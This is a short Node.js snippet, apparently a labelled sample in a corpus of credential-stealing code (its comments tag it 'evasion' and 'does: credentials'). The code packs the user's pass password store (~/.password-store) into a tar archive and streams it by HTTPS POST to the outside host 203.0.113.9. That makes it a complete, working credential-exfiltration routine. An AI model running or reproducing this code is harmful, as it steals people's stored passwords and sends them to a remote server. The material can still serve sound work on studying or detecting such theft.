// evasion: the pass password store (~/.password-store) archived with tar and streamed to a server
// grade: medium; does: credentials
const { spawn } = require("child_process");
const https = require("https");
const os = require("os");
const tar = spawn("tar", ["-cz", "-C", os.homedir(), ".password-store"]);
const req = https.request({ host: "203.0.113.9", path: "/p", method: "POST" });
tar.stdout.pipe(req);
